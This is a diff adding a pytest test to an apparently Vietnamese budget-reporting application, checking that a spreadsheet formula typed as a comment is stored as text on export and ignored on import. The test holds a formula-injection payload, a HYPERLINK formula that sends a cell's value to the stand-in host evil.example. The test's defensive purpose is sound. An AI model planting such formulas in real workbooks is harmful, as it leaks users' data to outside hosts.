@@ -591,3 +591,28 @@ def test_a_file_of_an_older_version_is_refused_when_the_report_did_not_use_it(
     assert "phiên bản 1 của biểu BM01-VON" in caught.value.errors[0].message
     assert "phiên bản 2" in caught.value.errors[0].message
     assert snapshot(lungcu) == before
+
+
+HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A2,"Xem")'
+
+
+def test_a_formula_typed_as_a_comment_stays_text_in_the_workbook_and_round_trips(
+    people, client, today, von, q3, lungcu
+):
+    key = key_of(von, "KH", "DA1_DTPT", "TW")
+    seed(people.commune, von, lungcu, q3, {key: ("-5", HYPERLINK)}, today)
+    client.force_login(people.commune)
+    data = client.get(DOWNLOAD).content
+    wb = load(data)
+    # No sheet, the hidden one included, holds a formula: the comment is a text cell.
+    assert not any(
+        c.data_type == "f" for ws in wb.worksheets for row in ws.iter_rows() for c in row
+    )
+    stored = [c for row in wb[META_SHEET].iter_rows() for c in row if c.value == HYPERLINK]
+    assert stored and all(c.data_type == "s" and c.quotePrefix for c in stored)
+    filled = find(wb, "KH", "Dự án 1 – vốn đầu tư phát triển", "NSTW")
+    assert filled.value == -5 and filled.data_type == "n"
+    assert filled.comment.text == HYPERLINK
+    before = snapshot(lungcu)
+    result = report_xlsx_import(actor=people.commune, form=von, unit=lungcu, period=q3, data=data)
+    assert result.cells == [] and snapshot(lungcu) == before
